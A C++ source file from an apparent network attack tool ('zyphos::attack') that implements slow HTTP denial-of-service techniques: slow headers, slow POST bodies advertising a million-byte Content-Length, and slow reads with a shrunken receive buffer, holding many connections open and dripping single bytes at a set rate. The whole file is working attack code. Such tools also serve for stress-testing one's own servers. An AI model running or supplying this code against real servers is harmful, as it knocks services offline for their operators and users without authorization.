#include "attack/slow.h"

#include <sys/socket.h>

#include <algorithm>
#include <cerrno>
#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

#include "base/address.h"
#include "net/clock.h"
#include "net/fd.h"
#include "net/socket.h"

namespace zyphos::attack {
namespace {

constexpr std::int64_t kTick_ns = kMillisecond_ns;
constexpr int kReceive_bytes = 2048;  // of who reads slowly; the kernel doubles it
constexpr std::string_view kField = "X-More: a\r\n";

// What is sent at once.
std::string opening(Kind kind, const std::string& host) {
  const std::string fields = " / HTTP/1.1\r\nHost: " + host + "\r\n";
  if (kind == Kind::slow_body) return "POST" + fields + "Content-Length: 1000000\r\n\r\n";
  if (kind == Kind::slow_read) return "GET" + fields + "\r\n";
  return "GET" + fields;
}

class Slow {
 public:
  Slow(const Options& options, int stop_fd)
      : options_(options),
        stop_fd_(stop_fd),
        server_(*Address::parse(options.address, options.port)),
        start_{options.start_ns},
        end_{options.start_ns + options.for_ns},
        opening_(opening(options.kind, options.address)),
        peers_(options.connections) {
    if (options.kind == Kind::slow_read) socket_.so_rcvbuf = kReceive_bytes;
  }

  Done run() {
    Time next = start_;
    while (!stopped(next, stop_fd_) && clock_now() < end_) {
      for (Peer& peer : peers_) attend(peer);
      drip();
      next = {clock_now().ns + kTick_ns};
    }
    return done_;
  }

 private:
  struct Peer {
    Fd fd;
    std::size_t opened = 0;  // bytes of the opening that are sent
    std::size_t dripped = 0;
  };

  // Bytes that may have been moved by now.
  std::uint64_t allowed() const {
    const double since_s = static_cast<double>(std::min(clock_now(), end_) - start_) / 1e9;
    return static_cast<std::uint64_t>(options_.rate * since_s);
  }

  // Dials it, says its opening, and sees whether the server has ended it.
  void attend(Peer& peer) {
    if (!peer.fd) {
      peer = {.fd = dial_socket(server_, socket_).fd};
      return;
    }
    if (peer.opened < opening_.size()) {
      const ssize_t n = ::send(peer.fd.get(), opening_.data() + peer.opened,
                               opening_.size() - peer.opened, MSG_NOSIGNAL);
      if (n > 0) peer.opened += static_cast<std::size_t>(n);
      if (n < 0 && errno != EAGAIN) end(peer);
    } else if (options_.kind != Kind::slow_read) {
      take_answer(peer);
    }
  }

  // Whatever is answered is no answer to a request that is not whole: the end follows.
  void take_answer(Peer& peer) {
    char answer[512];
    const ssize_t n = ::recv(peer.fd.get(), answer, sizeof answer, 0);
    if (n == 0 || (n < 0 && errno != EAGAIN)) end(peer);
  }

  void end(Peer& peer) {
    peer.fd.reset();
    ++done_.ended;
  }

  // One byte of each in turn, as long as the rate allows and any can move.
  void drip() {
    const std::uint64_t most = allowed();
    std::size_t still = 0;
    while (done_.sent < most && still < peers_.size()) {
      Peer& peer = peers_[turn_++ % peers_.size()];
      still = move_byte(peer) ? 0 : still + 1;
    }
  }

  bool move_byte(Peer& peer) {
    if (!peer.fd || peer.opened < opening_.size()) return false;
    char byte = kField[peer.dripped % kField.size()];
    const bool reads = options_.kind == Kind::slow_read;
    const ssize_t n =
        reads ? ::recv(peer.fd.get(), &byte, 1, 0) : ::send(peer.fd.get(), &byte, 1, MSG_NOSIGNAL);
    if (n == 1) {
      ++peer.dripped;
      ++done_.sent;
      return true;
    }
    if (n == 0 || errno != EAGAIN) end(peer);
    return false;
  }

  const Options& options_;
  int stop_fd_;
  Address server_;
  Time start_;
  Time end_;
  SocketOptions socket_;
  std::string opening_;
  std::vector<Peer> peers_;
  std::size_t turn_ = 0;
  Done done_;
};

}  // namespace

Done be_slow(const Options& options, int stop_fd) { return Slow(options, stop_fd).run(); }

}  // namespace zyphos::attack
